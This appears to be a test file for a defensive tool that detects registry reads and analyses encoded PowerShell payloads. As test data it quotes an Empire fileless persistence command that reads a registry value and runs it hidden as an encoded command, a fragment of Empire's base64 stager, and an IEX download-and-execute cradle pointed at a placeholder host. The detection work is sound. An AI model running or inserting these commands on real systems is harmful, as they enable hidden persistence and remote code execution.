import { test } from 'node:test';
import assert from 'node:assert/strict';
import { findRegistryReads } from './registry-reads.js';
import { analyzeIndirectPayload } from './analyze-value.js';
import { parseCommand } from './parse-command.js';

test('the Empire Run value of the corpus reads HKLM\\...\\CurrentVersion\\Debug', () => {
  // labels.json, attack/mordor/empire_persistence_registry_modification_run_keys_elevated_user.zip
  const p = parseCommand(
    '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -c "$x=$((gp HKLM:SOFTWARE\\Microsoft\\Windows\\CurrentVersion Debug).Debug);powershell -Win Hidden -enc $x"',
  );
  assert.deepEqual(
    p.registryReads.map((r) => [r.key, r.valueName]),
    [['HKLM:SOFTWARE\\Microsoft\\Windows\\CurrentVersion', 'Debug']],
  );
});

test('Get-ItemProperty forms and reg query', () => {
  const table: [string, [string, string | undefined][]][] = [
    ["iex (Get-ItemProperty -Path 'HKCU:\\Software\\x' -Name p).p", [['HKCU:\\Software\\x', 'p']]],
    [
      'Get-ItemPropertyValue Registry::HKEY_CURRENT_USER\\Software\\x blob',
      [['Registry::HKEY_CURRENT_USER\\Software\\x', 'blob']],
    ],
    ['gp HKCU:\\Software\\x', [['HKCU:\\Software\\x', undefined]]],
    ["for /f %a in ('reg query HKCU\\Software\\x /v p') do %a", [['HKCU\\Software\\x', 'p']]],
    ['reg query "HKLM\\Software\\y" /ve', [['HKLM\\Software\\y', '']]],
    ['Get-ChildItem C:\\x', []],
  ];
  for (const [text, want] of table) {
    assert.deepEqual(
      findRegistryReads(text).map((r) => [r.key, r.valueName]),
      want,
      text,
    );
  }
});

test('the data a loader reads is analysed as an encoded command or as script text', () => {
  // First 112 base64 characters of the Debug value Empire wrote in the same dataset.
  const a = analyzeIndirectPayload(
    'SQBmACgAJABQAFMAVgBlAHIAcwBpAE8AbgBUAEEAQgBMAEUALgBQAFMAVgBFAFIAcwBpAE8ATgAuAE0AYQBqAE8AcgAgAC0ARwBFACAAMwApAHsA',
  );
  assert.equal(a.command.decoded, 'If($PSVersiOnTABLE.PSVERsiON.MajOr -GE 3){');
  assert.ok(a.signals.some((s) => s.id === 'encoded-powershell'));
  const b = analyzeIndirectPayload("IEX (New-Object Net.WebClient).DownloadString('http://a/b')");
  assert.deepEqual(b.signals.map((s) => s.id).sort(), [
    'powershell-download',
    'script-interpreter',
    'url-in-value',
  ]);
});
